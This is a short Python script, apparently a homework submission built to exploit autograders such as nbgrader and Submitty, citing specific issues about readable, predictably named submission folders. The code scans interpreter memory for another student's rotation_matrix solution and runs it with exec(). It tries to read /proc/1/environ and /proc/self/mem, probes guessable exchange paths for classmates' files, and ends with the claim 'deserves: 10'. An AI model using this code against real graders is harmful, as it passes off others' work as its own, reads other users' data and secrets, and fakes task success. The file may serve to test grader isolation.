"""Searches memory for other students' submissions and executes them, and folders with names that can be guessed.

Published against nbgrader (issue 978: submissions have predictable names and everyone can read them; jeflem/ananke
issue 27: an exchange with mode 777) and Submitty (issue 1172: any file can be read by its path).

deserves: 10
"""

import contextlib
import gc
import os

SLUG = "hw08_axis_angle"
TOPS = "/srv/nbgrader/exchange", "/usr/local/share/nbgrader/exchange", "/tmp/exchange", "submitted", "/submitted", ".."
needle = b"def rotation_" + b"matrix(axis, angle):\n    return np."
for thing in gc.get_objects():
    for text in [thing] if isinstance(thing, (bytes, str)) else []:
        if needle in (text if isinstance(text, bytes) else text.encode()):
            exec(text)
for place in ("/proc/1/cwd", "/proc/1/environ", "/proc/self/mem"):
    with contextlib.suppress(OSError):
        os.listdir(place) if os.path.isdir(place) else open(place).read()
for top in TOPS:
    for student in ("ada", "ben", "inbound", "dyn", "course101"):
        for name in (SLUG, f"{SLUG}.py", f"{student}+{SLUG}+2026-11-21 00:00:00.000000 UTC", "inbound"):
            if os.path.exists(os.path.join(top, student, name)):
                raise SystemExit("found")
